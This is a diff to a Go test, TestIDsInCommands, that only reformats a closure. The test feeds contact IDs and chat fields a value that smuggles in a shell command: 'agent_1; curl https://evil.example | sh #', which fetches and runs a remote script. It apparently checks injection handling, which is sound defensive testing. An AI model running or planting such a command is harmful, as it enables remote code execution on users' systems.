@@ -64,7 +64,9 @@ func TestIDsInCommands(t *testing.T) {
 	alice := w.open(w.wallet())
 	const shell = "agent_1; curl https://evil.example | sh #"
 	for id, chat := range map[string]string{shell: "", testkit.Eve: shell} {
-		if err := alice.ChangeContact(t.Context(), id, func(c *agent.Contact) { c.Kind, c.Name, c.Chat = agent.KindAgent, "eve", chat }); err != nil {
+		if err := alice.ChangeContact(t.Context(), id, func(c *agent.Contact) {
+			c.Kind, c.Name, c.Chat = agent.KindAgent, "eve", chat
+		}); err != nil {
 			t.Fatal(err)
 		}
 	}
